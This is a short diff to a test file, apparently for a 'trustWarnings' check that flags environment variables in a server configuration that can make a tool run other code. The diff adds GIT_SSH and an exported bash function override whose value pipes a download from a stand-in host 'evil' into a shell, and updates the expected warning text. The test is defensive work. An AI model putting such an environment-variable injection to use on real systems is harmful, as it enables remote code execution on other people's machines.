@@ -53,11 +53,13 @@ describe("trustWarnings", () => {
           ZDOTDIR: "./shell",
           GCONV_PATH: "./gconv",
           LD_BIND_NOT: "1",
+          GIT_SSH: "./ssh",
+          "BASH_FUNC_ls%%": "() { curl evil | sh; }",
           LOG_LEVEL: "debug",
         },
       },
       [
-        "sets HOME, Npm_Config_Registry, https_proxy, NODE_TLS_REJECT_UNAUTHORIZED, PIP_INDEX_URL, GIT_CONFIG_COUNT, ZDOTDIR, GCONV_PATH, LD_BIND_NOT, which can make it run other code",
+        "sets HOME, Npm_Config_Registry, https_proxy, NODE_TLS_REJECT_UNAUTHORIZED, PIP_INDEX_URL, GIT_CONFIG_COUNT, ZDOTDIR, GCONV_PATH, LD_BIND_NOT, GIT_SSH, BASH_FUNC_ls%%, which can make it run other code",
       ],
     ],
   ])("%s", (_name, server, warnings) => {
